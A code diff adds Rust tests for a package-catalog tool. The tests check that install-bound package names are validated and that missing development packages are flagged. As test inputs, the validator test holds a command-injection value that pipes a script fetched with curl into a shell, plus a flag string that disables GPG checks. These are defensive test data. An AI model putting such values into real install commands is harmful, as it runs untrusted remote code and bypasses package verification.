@@ -113,3 +113,80 @@ fn malformed_catalog_gives_a_clear_error() {
         "{e}"
     );
 }
+
+/// Catalog package names go into install commands as they are, so a name that is no package
+/// name (a space, a `;`, a leading `-` read as an option, nothing at all) is refused at its
+/// line; so is a family that names no package, which would count as known and advise nothing.
+#[test]
+fn catalog_package_names_are_package_names() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("site.yaml");
+    for (family, want) in [
+        (
+            "debian: {dev: \"libfoo-dev; curl evil.sh | sh\", runtime: libfoo}",
+            "`dev` package `libfoo-dev; curl evil.sh | sh` is not a package name",
+        ),
+        (
+            "rhel: {dev: \"-y --nogpgcheck\", runtime: libfoo}",
+            "`dev` package `-y --nogpgcheck` is not a package name",
+        ),
+        (
+            "alpine: {dev: \"  \", runtime: libfoo}",
+            "`dev` package `  ` is not a package name",
+        ),
+        ("debian: {}", "family debian: names no package"),
+    ] {
+        std::fs::write(
+            &path,
+            format!("libraries:\n  - id: libfoo\n    families:\n      {family}\n"),
+        )
+        .unwrap();
+        let e = Catalog::with_override(&path).unwrap_err().to_string();
+        assert!(
+            e.contains("site.yaml:4:") && e.contains(want),
+            "{family}: {e}"
+        );
+    }
+}
+
+/// A family that names only the runtime package leaves a source build's need unmet: with the
+/// toolchain present the cell stays at risk, not "installs" as if nothing were missing.
+#[test]
+fn a_source_build_needs_the_development_package_the_catalog_names() {
+    let dir = tempfile::tempdir().unwrap();
+    let write = |name: &str, text: &str| {
+        let path = dir.path().join(name);
+        std::fs::write(&path, text).unwrap();
+        path
+    };
+    let registry = write(
+        "r.yaml",
+        "packages:\n  - name: d\n    versions:\n      - {version: 1.0.0, native: {libraries: [quokka-codec]}}\n",
+    );
+    let images = write(
+        "i.yaml",
+        "images:\n  - {id: a1, runtime: 3.0.0, family: alpine, platform: linux/musl/x86_64, toolchain: true, packages: [build-base]}\n",
+    );
+    let priorities = write("p.yaml", "priorities: [d]\n");
+    let catalog = write(
+        "c.yaml",
+        "libraries:\n  - id: quokka-codec\n    families:\n      alpine: {runtime: quokka-codec}\n",
+    );
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_basefit"))
+        .args(["explain", "d", "a1", "--quiet", "--registry"])
+        .arg(&registry)
+        .arg("--images")
+        .arg(&images)
+        .arg("--priorities")
+        .arg(&priorities)
+        .arg("--catalog")
+        .arg(&catalog)
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        stdout.starts_with("d on a1: at-risk (1.0.0)")
+            && stdout.contains("needs libraries the catalog does not know: quokka-codec"),
+        "{stdout}"
+    );
+}
